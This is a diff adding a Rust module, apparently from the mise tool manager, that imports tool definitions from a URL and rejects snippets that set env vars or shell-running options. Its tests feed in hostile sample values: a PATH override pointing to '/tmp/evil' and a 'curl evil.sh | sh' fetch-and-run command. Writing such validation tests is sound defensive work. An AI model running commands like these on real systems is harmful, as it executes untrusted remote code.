@@ -0,0 +1,178 @@
+use std::path::PathBuf;
+
+use crate::config::local_toml_config_path;
+use crate::file;
+use crate::file::display_path;
+use crate::http::HTTP;
+use crate::toolset::SCRIPT_OPTIONS;
+use crate::ui::style;
+use eyre::{Result, bail, eyre};
+use toml_edit::{DocumentMut, Item, Table, Value};
+
+/// Import tool definitions from a URL into mise.toml
+///
+/// Fetches a TOML snippet and merges its tools into the local mise.toml.
+/// The snippet may only contain `[tools."backend:..."]` entries, any other
+/// config such as env vars, tasks or hooks is rejected, as are tool options
+/// that run shell commands, e.g.: postinstall or post_install_script.
+#[derive(Debug, clap::Args)]
+#[clap(verbatim_doc_comment, after_long_help = AFTER_LONG_HELP)]
+pub struct BackendsImport {
+    /// URL of the TOML snippet to import
+    url: String,
+
+    /// The mise.toml file to write to
+    ///
+    /// If not provided, the nearest local mise.toml will be used
+    #[clap(short, long)]
+    file: Option<PathBuf>,
+
+    /// Show the changes that would be made without writing them
+    #[clap(long, short = 'n')]
+    dry_run: bool,
+}
+
+impl BackendsImport {
+    pub async fn run(self) -> Result<()> {
+        let snippet = HTTP.get_text(&self.url).await?;
+        let tools = parse_snippet(&snippet)?;
+        let path = self.file.unwrap_or_else(local_toml_config_path);
+        let mut doc: DocumentMut = match path.exists() {
+            true => file::read_to_string(&path)?.parse()?,
+            false => DocumentMut::new(),
+        };
+        let target = doc
+            .entry("tools")
+            .or_insert_with(|| Item::Table(Table::new()))
+            .as_table_like_mut()
+            .ok_or_else(|| eyre!("[tools] is not a table in {}", display_path(&path)))?;
+
+        let mut diff = vec![];
+        for (key, value) in tools {
+            let existing = target.get(&key).and_then(|i| match i {
+                Item::Value(v) => Some(v.to_string().trim().to_string()),
+                Item::Table(t) => Some(t.clone().into_inline_table().to_string()),
+                _ => None,
+            });
+            let new = value.to_string().trim().to_string();
+            if existing.as_ref() == Some(&new) {
+                continue;
+            }
+            if let Some(existing) = existing {
+                diff.push(style::nred(format!("- \"{key}\" = {existing}")).to_string());
+            }
+            diff.push(
+                style::nstyle(format!("+ \"{key}\" = {new}"))
+                    .green()
+                    .to_string(),
+            );
+            target.insert(&key, Item::Value(value));
+        }
+
+        if diff.is_empty() {
+            info!("{} is already up to date", display_path(&path));
+            return Ok(());
+        }
+        miseprintln!("{}", style::nbold(display_path(&path)));
+        for line in diff {
+            miseprintln!("{line}");
+        }
+        if !self.dry_run {
+            file::write(&path, doc.to_string())?;
+        }
+        Ok(())
+    }
+}
+
+/// Parses the imported snippet, returning each tool with its value as an inline value.
+/// Anything other than `[tools]` entries with an explicit backend is rejected, as are
+/// options that would run shell commands from the snippet on the next `mise install`.
+fn parse_snippet(snippet: &str) -> Result<Vec<(String, Value)>> {
+    let doc: DocumentMut = snippet.parse()?;
+    if let Some((key, _)) = doc.iter().find(|(k, _)| *k != "tools") {
+        bail!("imported config may only contain [tools], found [{key}]");
+    }
+    let Some(tools) = doc.get("tools").and_then(|t| t.as_table_like()) else {
+        bail!("imported config does not contain any [tools]");
+    };
+    let mut out = vec![];
+    for (key, item) in tools.iter() {
+        if !key.contains(':') {
+            bail!("imported tool {key} must specify a backend, e.g.: \"github:{key}\"");
+        }
+        let mut value = match item.clone() {
+            Item::Value(v) => v,
+            Item::Table(t) => Value::InlineTable(t.into_inline_table()),
+            _ => bail!("invalid value for imported tool {key}"),
+        };
+        if let Some(table) = value.as_inline_table()
+            && let Some(option) = SCRIPT_OPTIONS.iter().find(|o| table.contains_key(o))
+        {
+            bail!("imported tool {key} may not set {option}, it runs shell commands");
+        }
+        value.decor_mut().clear();
+        out.push((key.to_string(), value));
+    }
+    Ok(out)
+}
+
+static AFTER_LONG_HELP: &str = color_print::cstr!(
+    r#"<bold><underline>Examples:</underline></bold>
+
+    $ <bold>mise backends import https://example.com/tools/gh.toml --dry-run</bold>
+    mise.toml
+    + "github:cli/cli" = { version = "latest", bin_path = "bin" }
+
+    $ <bold>mise backends import https://example.com/tools/gh.toml</bold>
+"#
+);
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_snippet() {
+        let tools = parse_snippet(
+            r#"
+[tools."github:cli/cli"]
+version = "latest"
+bin_path = "bin"
+"#,
+        )
+        .unwrap();
+        assert_eq!(tools.len(), 1);
+        assert_eq!(tools[0].0, "github:cli/cli");
+        assert_eq!(
+            tools[0].1.to_string(),
+            r#"{ version = "latest", bin_path = "bin" }"#
+        );
+
+        let tools = parse_snippet(r#"tools = { "aqua:jqlang/jq" = "1.7" }"#).unwrap();
+        assert_eq!(tools[0].1.to_string(), r#""1.7""#);
+    }
+
+    #[test]
+    fn test_parse_snippet_rejects_other_config() {
+        let err = parse_snippet(
+            r#"
+[tools]
+"github:cli/cli" = "latest"
+
+[env]
+PATH = "/tmp/evil"
+"#,
+        )
+        .unwrap_err();
+        assert!(err.to_string().contains("[env]"));
+        assert!(parse_snippet("[tools]\nnode = \"20\"").is_err());
+        for option in SCRIPT_OPTIONS {
+            let err = parse_snippet(&format!(
+                "[tools.\"github:cli/cli\"]\nversion = \"latest\"\n{option} = \"curl evil.sh | sh\""
+            ))
+            .unwrap_err();
+            assert!(err.to_string().contains(option));
+        }
+        assert!(parse_snippet("").is_err());
+    }
+}